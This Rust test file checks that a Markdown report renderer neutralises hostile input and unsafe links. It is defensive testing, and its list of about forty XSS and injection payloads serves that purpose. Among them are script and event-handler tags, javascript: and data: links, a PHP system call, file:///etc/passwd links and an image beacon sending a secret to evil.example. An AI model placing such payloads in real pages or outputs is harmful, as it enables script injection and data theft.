//! A report of hostile text, as a renderer of Markdown takes it: nothing in it runs, loads or leads anywhere but to pages.

use pulldown_cmark::{Event, Options, Parser, Tag};

use super::super::{CitationView, span::Measured};
use super::escape::{address, block, line};
use super::mark::{marked, sources};

fn cited(text: &str, passage: &str, source: &str) -> CitationView {
    let at = text.find(passage).map(|byte| text[..byte].chars().count() as u64).unwrap();
    let view = CitationView {
        kind: "url_citation".to_owned(),
        title: Some("A [page](javascript:alert(1))".to_owned()),
        source: Some(source.to_owned()),
        container_id: None,
        text: None,
        start: None,
        end: None,
        start_byte: None,
        end_byte: None,
    };
    view.at(Measured::of(text).span(at, at + passage.chars().count() as u64))
}

/// What a text becomes with its citations.
fn written(text: &str, citations: &[CitationView]) -> String {
    marked(text, citations, &sources(citations))
}

/// What a renderer would do with it besides showing text.
fn deeds(markdown: &str) -> Vec<String> {
    let deed = |event: Event<'_>| match event {
        Event::Html(html) | Event::InlineHtml(html) => Some(format!("HTML {html}")),
        Event::Start(Tag::Image { dest_url, .. }) => Some(format!("image {dest_url}")),
        Event::Start(Tag::Link { dest_url, .. }) => Some(format!("link {dest_url}")),
        Event::Start(Tag::CodeBlock(kind)) if !matches!(kind, pulldown_cmark::CodeBlockKind::Indented) => {
            Some("code".to_owned())
        }
        Event::Start(Tag::MetadataBlock(_)) => Some("metadata".to_owned()),
        _ => None,
    };
    Parser::new_ext(markdown, Options::all()).filter_map(deed).collect()
}

/// What somebody reads of it.
fn shown(markdown: &str) -> String {
    let text = |event: Event<'_>| match event {
        Event::Text(text) | Event::Code(text) => Some(text.into_string()),
        Event::SoftBreak | Event::HardBreak => Some("\n".to_owned()),
        _ => None,
    };
    Parser::new(markdown).filter_map(text).collect()
}

const HOSTILE: [&str; 42] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "\\<script>alert(1)</script>",
    "\\\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script>alert(1)&#60;/script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<?php system('id'); ?>",
    "![](https://evil.example/beacon.png?q=secret)",
    "![a][b]\n\n[b]: https://evil.example/beacon.png",
    "!\\[a](https://evil.example/b.png)",
    "[![a](https://evil.example/b.png)](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\u{0}script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click]: javascript:alert(1)\n\n[click]",
    "<javascript:alert(1)>",
    "<https://evil.example/auto>",
    "[x]: <javascript:alert(1)> \"t\"",
    "[^1]\n\n[^1]: [a](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n",
    "~~~\nnever closed",
    "~~~~ \n~~~\nnever closed",
    "> ```\n- ~~~~~\n",
    "`<script>`",
    "---\ntitle: x\n---\n",
    "+++\ntitle = 'x'\n+++\n",
    "a\r\r<script>alert(1)</script>",
    "\u{202e}gnp.exe\u{202c} \u{200b}\u{feff}\u{e0041}",
    "- [ ] [done](javascript:alert(1))\n- [x] done",
    "| a |\n|---|\n| ![b](https://evil.example/c.png) |",
];

#[test]
fn a_hostile_text_does_nothing_in_a_renderer() {
    for text in HOSTILE {
        let report = format!("# Head\n\n---\n\n{}\n\n---\n\n## Sources\n", written(text, &[]));
        assert_eq!(deeds(&report), [] as [&str; 0], "{text:?} became {report:?}");
        assert!(shown(&report).ends_with("Sources"), "{text:?} swallowed what follows it: {report:?}");
        let title = format!("1. [{}](https://good.example/)\n", line(text));
        assert_eq!(deeds(&title), ["link https://good.example/"], "{text:?} as a title");
    }
}

#[test]
fn a_text_is_read_as_it_was_written() {
    for text in ["a < b && c[0] > `d`", "C:\\<dir>\\[x]", "&lt; is not <", "[1] Smith & Sons", "see \\[this\\]"] {
        assert_eq!(shown(&block(text)), text);
    }
    assert_eq!(block("a\u{202e}b\u{7}\r\nc\u{2028}d"), "a‹U+202E›b‹U+0007›\nc\nd");
    let family = "\u{1f469}\u{200d}\u{1f467}";
    assert_eq!(block(family), family, "a joiner stays");
    assert_eq!(block("# Title\n\n- *one*\n- ~~two~~\n\n| a |\n|---|"), "# Title\n\n- *one*\n- ~~two~~\n\n| a |\n|---|");
}

#[test]
fn a_link_leads_to_a_page_by_its_own_name_or_nowhere() {
    for (source, expect) in [
        ("https://example.com", Some("https://example.com")),
        ("HTTPS://example.com:8443/a?b=c&d=e#f", Some("https://example.com:8443/a?b=c&amp;d=e#f")),
        ("http://example.com/a)b(c <d>", Some("http://example.com/a%29b%28c%20%3Cd%3E")),
        ("https://example.com/ü", Some("https://example.com/%C3%BC")),
        ("javascript:alert(1)", None),
        ("javascript://example.com/%0aalert(1)", None),
        ("https://good.example@evil.example/", None),
        ("https://ex\u{430}mple.com/", None),
        ("https:///etc/passwd", None),
        ("https://[::1]/", None),
        ("https://example.com:/", None),
        ("https://example.com:x/", None),
        ("https://exam\nple.com/", None),
        ("https://example.com/\u{202e}", None),
        ("https://-x.example/", None),
        (" https://example.com", None),
        ("file_1", None),
        ("", None),
    ] {
        assert_eq!(address(source).map(|address| address.url).as_deref(), expect, "{source}");
    }
    assert!(address(&format!("https://example.com/{}", "a".repeat(2_000))).is_none());
}

#[test]
fn a_mark_stands_behind_what_it_cites_and_takes_the_place_of_a_link() {
    let text = "Zürich has a lake ([a.example](https://a.example/?utm_source=openai)). It is deep. So it is.";
    let link = "([a.example](https://a.example/?utm_source=openai))";
    let citations = [
        cited(text, "It is deep.", "https://b.example"),
        cited(text, link, "https://a.example/"),
        cited(text, "So it is.", "https://a.example/"),
        cited(text, "So it is.", "javascript:alert(1)"),
    ];
    let report = written(text, &citations);
    let [a, b] = [" [&#91;1&#93;](https://a.example/)", " [&#91;2&#93;](https://b.example)"];
    assert_eq!(report, format!("Zürich has a lake{a}. It is deep.{b} So it is.{a} &#91;3&#93;"));
    assert_eq!(shown(&report), "Zürich has a lake [1]. It is deep. [2] So it is. [1] [3]");
    let numbered: Vec<_> = sources(&citations).iter().map(|citation| citation.source.clone().unwrap()).collect();
    assert_eq!(numbered, ["https://a.example/", "https://b.example", "javascript:alert(1)"]);
}

#[test]
fn marks_that_overlap_lose_no_text() {
    let text = "one two [three](https://c.example) four";
    let passages = ["one two", "two [three](https://c.example)", "[three](https://c.example)", "three", text];
    for first in passages {
        for second in passages {
            let citations = [cited(text, first, "https://a.example"), cited(text, second, "https://b.example")];
            let shown = shown(&written(text, &citations));
            for word in ["one", "two", "four", "[1]"] {
                assert!(shown.contains(word), "{first} {second}: {shown}");
            }
        }
    }
}
